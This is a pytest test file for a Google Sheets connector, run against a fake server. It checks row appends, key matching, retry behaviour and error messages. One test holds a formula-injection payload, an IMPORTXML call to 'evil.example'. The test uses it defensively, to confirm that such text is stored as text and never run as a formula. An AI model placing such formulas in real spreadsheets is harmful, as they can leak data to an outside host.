"""The ``google_sheets`` connector, against a strict fake on a real socket."""

from collections.abc import Iterator
from decimal import Decimal
from typing import Any

import httpx
import pytest

from connectors.base import Reject, Retry
from connectors.google_sheets import OURS, GoogleSheets, SheetsConfig
from connectors.google_sheets_table import letters
from tests.fakes.google_sheets import SheetsFake
from tests.fakes.google_wire import ROBOT, Fault
from tests.google import deliver, robot
from tests.notes import MemoryNotes
from tests.servers import running

pytestmark = pytest.mark.anyio


@pytest.fixture
def sheets() -> Iterator[tuple[SheetsFake, str]]:
    fake = SheetsFake()
    fake.rows.append(["Song ID", "Title", "Video URL"])
    fake.rows.append(["7", "Neon", ""])
    with running(fake) as url:
        yield fake, url


async def write(url: str, notes: MemoryNotes | None = None, **config: Any) -> Any:
    connection = robot(url, spreadsheet="https://docs.google.com/spreadsheets/d/sheet_1/edit#gid=0")
    return await deliver(GoogleSheets(), SheetsConfig(**config), connection, notes=notes)


async def test_a_row_is_appended_under_its_headings(sheets: tuple[SheetsFake, str]) -> None:
    fake, url = sheets
    outcome = await write(url, values={"title": "Rain", "video_url": "https://v.example"}, sheet="Videos")
    assert fake.rows[0] == ["Song ID", "Title", "Video URL", OURS]
    assert fake.rows[2] == ["", "Rain", "https://v.example", "dlv_1"]
    assert (outcome.detail["row"], outcome.detail["did"]) == (3, "appended")


async def test_text_stays_text(sheets: tuple[SheetsFake, str]) -> None:
    fake, url = sheets
    danger = '=IMPORTXML("https://evil.example","//a")'
    await write(url, values={"Song ID": "=1+1", "Title": danger, "Video URL": [Decimal("1.5")]})
    await write(url, values={"Title": danger}, match={"song id": 7})
    assert fake.rows[2][:3] == ["=1+1", danger, "[1.5]"]
    assert fake.rows[1] == ["7", danger, ""]


@pytest.mark.parametrize("operation", ["spreadsheets.values.append", "spreadsheets.values.batchUpdate"])
@pytest.mark.parametrize("fault", [Fault(lost=True), Fault(503), Fault(429, "RESOURCE_EXHAUSTED")])
async def test_exactly_one_row_whatever_goes_wrong(
    sheets: tuple[SheetsFake, str], operation: str, fault: Fault
) -> None:
    fake, url = sheets
    notes = MemoryNotes()
    fake.fail(operation, fault)
    with pytest.raises(Retry) as caught:
        await write(url, notes, values={"Title": "Rain"})
    assert caught.value.after == (60.0 if fault.status == 429 else None)
    await write(url, notes, values={"Title": "Rain"})
    await write(url, notes, values={"Title": "Rain"})
    assert [row[1] for row in fake.rows[1:]] == ["Neon", "Rain"]
    assert fake.rows[0].count(OURS) == 1


async def test_a_row_is_found_by_its_key_wherever_it_has_moved(sheets: tuple[SheetsFake, str]) -> None:
    fake, url = sheets
    fake.rows.insert(1, ["8", "Other", ""])
    outcome = await write(url, values={"Video URL": "u"}, match={"SONG_ID": 7.0})
    assert fake.rows[1:] == [["8", "Other", ""], ["7", "Neon", "u"]]
    assert (outcome.detail["row"], outcome.detail["did"]) == (3, "updated")
    assert OURS not in fake.rows[0]


async def test_a_key_that_no_row_has(sheets: tuple[SheetsFake, str]) -> None:
    fake, url = sheets
    with pytest.raises(Reject, match="no row has '9'"):
        await write(url, values={"Title": "x"}, match={"Song ID": "9"}, missing="reject")
    await write(url, values={"Title": "x"}, match={"Song ID": "9"})
    assert fake.rows[2][:2] == ["9", "x"]
    fake.rows.append(["9", "again"])
    with pytest.raises(Reject, match=r"2 rows have '9'.*\(rows 3, 4\)"):
        await write(url, values={"Title": "x"}, match={"Song ID": "9"})


async def test_columns_are_added_only_on_request(sheets: tuple[SheetsFake, str]) -> None:
    fake, url = sheets
    with pytest.raises(Reject, match="no heading 'Error', 'Credits'; it has 'Song ID', 'Title', 'Video URL'"):
        await write(url, values={"Error": "x", "Credits": 3})
    await write(url, values={"Error": "x", "Credits": 3}, add_columns=True)
    assert fake.rows[0] == ["Song ID", "Title", "Video URL", "Error", "Credits", OURS]
    assert fake.rows[2][3:5] == ["x", 3]


@pytest.mark.parametrize(
    ("config", "says"),
    [
        ({"values": {}}, "`values` needs one heading"),
        ({"values": {"Title": "x"}, "match": {"Song ID": ""}}, "no value for 'Song ID'"),
        ({"values": {"Title": "x" * 50_001}}, "a cell holds 50000"),
        ({"values": {"Title": "x"}, "spreadsheet": "not an id!"}, "must be a spreadsheet's id"),
        ({"values": {"Title": "x"}, "spreadsheet": "another_one"}, "compare the spreadsheet's id"),
        ({"values": {"Title": "x"}, "sheet": "It's"}, "is there a tab named"),
        ({"values": {"Title": "x"}, "match": {"Nope": 1}}, "no heading 'Nope'"),
    ],
)
async def test_what_is_wrong_is_said(sheets: tuple[SheetsFake, str], config: dict[str, Any], says: str) -> None:
    with pytest.raises(Reject, match=says):
        await write(sheets[1], **config)
    assert len(sheets[0].rows) == 2


async def test_an_empty_heading_would_shift_the_row_and_is_told(sheets: tuple[SheetsFake, str]) -> None:
    sheets[0].rows[0][1] = ""
    with pytest.raises(Reject, match="the heading in B1 is empty"):
        await write(sheets[1], values={"Song ID": "8"})


async def test_a_connection_is_tried_without_effect(sheets: tuple[SheetsFake, str]) -> None:
    fake, url = sheets
    async with httpx.AsyncClient(trust_env=False) as client:
        told = await GoogleSheets().check(robot(url, spreadsheet="sheet_1"), client)
        assert f"'Campaign' with 'Videos' as {ROBOT}, which has to be its editor" in told
        assert f"share each with {ROBOT} as an editor" in await GoogleSheets().check(robot(url), client)
    assert set(fake.calls) == {"token", "spreadsheets.get"}


def test_columns_have_letters() -> None:
    assert [letters(column) for column in (0, 25, 26, 701, 702)] == ["A", "Z", "AA", "ZZ", "AAA"]
